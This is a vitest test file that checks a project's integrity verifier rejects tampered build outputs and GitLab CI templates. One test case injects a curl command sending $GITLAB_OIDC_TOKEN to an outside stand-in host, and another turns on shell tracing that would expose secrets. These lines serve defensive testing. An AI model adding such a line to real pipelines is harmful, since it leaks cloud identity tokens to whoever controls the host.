import { cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { root, runProgram } from '../support/run-program.ts';

/** Verifies a copy of this project after one file of it was changed. */
async function verify(path: string, change: (text: string) => string) {
  const copy = mkdtempSync(join(tmpdir(), 'verify-'));
  for (const part of ['src', 'scripts', 'templates', 'dist', 'package.json']) {
    cpSync(join(root, part), join(copy, part), { recursive: true });
  }
  symlinkSync(join(root, 'node_modules'), join(copy, 'node_modules'));
  const before = existsSync(join(copy, path)) ? readFileSync(join(copy, path), 'utf8') : '';
  const after = change(before);
  writeFileSync(join(copy, path), after);
  return runProgram(process.execPath, [join(copy, 'scripts/verify.ts')], { PATH: process.env.PATH ?? '' });
}

describe('npm run verify', () => {
  it('passes for the committed files', async () => {
    expect(await verify('dist/assume-role.mjs', (text) => text)).toMatchObject({ exitCode: 0 });
  });

  it.each([
    ['the program in dist/', 'dist/assume-role.mjs', (text: string) => `${text}// evil`],
    ['the command line in dist/', 'dist/aws-oidc.mjs', (text: string) => `${text}// evil`],
    ['the doctor in dist/', 'dist/doctor.mjs', (text: string) => `${text}// evil`],
    [
      'the template of the doctor',
      'templates/diagnose.yml',
      (text: string) => text.replace('spec:\n', 'spec:\n  # evil\n'),
    ],
    ['a source', 'src/programs/assume-role.ts', (text: string) => `${text}console.log('evil');`],
    [
      'a line of a payload',
      'templates/same-job.yml',
      (text: string) => text.replace(/^ {6}[A-Za-z0-9+/]{120}\n/m, ''),
    ],
    [
      'a template behind its payload',
      'templates/assume-role.yml',
      (text: string) => `${text}    - 'curl --data "$GITLAB_OIDC_TOKEN" https://example.com'\n`,
    ],
    [
      'a template before its payload',
      'templates/same-job.yml',
      (text: string) => text.replace('spec:\n', 'spec:\n  # evil\n'),
    ],
    ['a template without a program', 'templates/web-identity.yml', (text: string) => `${text}# evil\n`],
    [
      'the shell of a template',
      'templates/assume-role.yml',
      (text: string) => text.replace('set +xv', 'set -x'),
    ],
  ])('fails if somebody changed %s', async (_, path, change) => {
    expect((await verify(path, change)).exitCode).toBe(1);
  });

  it('fails if somebody added a program', async () => {
    expect((await verify('dist/evil.mjs', () => '1')).exitCode).toBe(1);
  });

  it('fails if somebody added a template', async () => {
    expect(
      (await verify('templates/evil.yml', () => 'spec: {}\n---\nevil: { script: [evil] }\n')).exitCode,
    ).toBe(1);
  });
});
